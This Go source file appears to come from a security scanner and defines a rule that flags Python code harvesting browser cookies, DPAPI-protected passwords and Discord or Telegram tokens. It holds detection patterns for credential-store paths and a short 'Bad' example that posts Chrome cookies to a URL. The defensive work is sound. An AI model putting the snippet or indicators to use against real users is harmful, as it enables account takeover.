package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonBrowserSecrets reports Python code that extracts cookies, saved
// passwords or app tokens from browsers and desktop apps.
var PythonBrowserSecrets = register(&analyzer.Rule{
	ID:       "SV283",
	Name:     "python-browser-secrets",
	Title:    "Python extracts browser cookies, saved passwords or app tokens",
	Severity: High,
	Category: analyzer.CatCredentials,
	Tags:     []string{"security", "python", "stealer", "CWE-522", "CWE-312"},
	Inputs:   analyzer.InPython,
	Doc: `Python code does what info-stealers do with browsers and desktop apps:

- loads cookies with ` + "`browser_cookie3`" + `, ` + "`browsercookie`" + ` or ` + "`pycookiecheat`" + `;
- decrypts saved secrets: ` + "`win32crypt.CryptUnprotectData`" + ` (DPAPI), the Chromium ` + "`os_crypt`" + `
  ` + "`encrypted_key`" + ` from ` + "`Local State`" + ` (the name alone, in a module that never names ` + "`Local State`" + ` or
  ` + "`os_crypt`" + `, is any envelope-encryption field);
- hunts Discord/Slack/Telegram session tokens (` + "`Local Storage/leveldb`" + ` with token
  regexes, ` + "`tdata`" + `).

**Critical** when the file also sends data over the network, **high** otherwise.
Session cookies and tokens give an attacker the user's accounts without a password or
second factor.

**Fix:** use the service's API with a token the user creates for the skill.

Bad:

` + "```python" + `
import browser_cookie3, requests
jar = browser_cookie3.chrome()
requests.post(URL, data={c.name: c.value for c in jar})
` + "```" + `

Good:

` + "```python" + `
import os, requests
requests.get("https://api.github.com/user", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
` + "```",
	Run: runPythonBrowserSecrets,
})

var pyTokenHuntRx = match.MustRx(`(Local Storage[/\\]+leveldb|\[\\w-\]\{24\}|mfa\\\.|dQw4w9WgXcQ:|encrypted_key|os_crypt|[/\\]tdata\b|Login Data|Web Data)`)

// pyTokenHuntWords prefilter strings before the regular expression.
var pyTokenHuntWords = []string{"Local Storage", "{24}", "mfa", "dQw4", "encrypted_key", "os_crypt", "tdata", "Login Data", "Web Data"}

func runPythonBrowserSecrets(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	type hit struct {
		start, end int
		what       string
	}
	var hits []hit
	seenLib := false
	for _, c := range m.Calls {
		start, end := m.Span(c)
		switch {
		case pyfacts.HasPrefixAny(c.Name, "browser_cookie3.", "browsercookie.", "pycookiecheat.", "rookiepy."):
			if !seenLib {
				hits = append(hits, hit{start, end, "loads browser cookies (" + c.Name + ")"})
				seenLib = true
			}
		case strings.HasSuffix(c.Name, "CryptUnprotectData"):
			hits = append(hits, hit{start, end, "decrypts DPAPI-protected secrets (CryptUnprotectData)"})
		}
	}
	// "encrypted_key" is the browser's master key only beside the file or
	// section that holds it (Local State, os_crypt); alone it is any
	// envelope-encryption field ({"encrypted_key": ciphertext_blob})
	src := string(m.Src)
	browserKeyStore := strings.Contains(src, "os_crypt") || strings.Contains(src, "Local State")
	for i := range m.Toks {
		if m.Toks[i].Kind != python.String {
			continue
		}
		v, _ := m.Value(i)
		if !pyfacts.ContainsAny(v, pyTokenHuntWords) {
			continue
		}
		if loc := pyTokenHuntRx.FindString(v); loc != "" && (len(hits) > 0 || strings.Contains(loc, "leveldb") || strings.Contains(loc, "encrypted_key") && browserKeyStore || strings.Contains(loc, "{24}") || strings.Contains(loc, "dQw4")) {
			hits = append(hits, hit{m.Toks[i].Start, m.Toks[i].End, "looks for app or browser secrets (" + pyfacts.ClipStr(loc, 40) + ")"})
			break
		}
	}
	if len(hits) == 0 {
		return nil
	}
	sinkNote := pyfacts.SinkNote(m)
	for _, h := range hits {
		sev, msg := High, h.what
		if note := sinkNote(); note != "" {
			sev, msg = Critical, msg+note
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: h.start, End: h.end, Severity: sev, Message: msg})
	}
	return nil
}
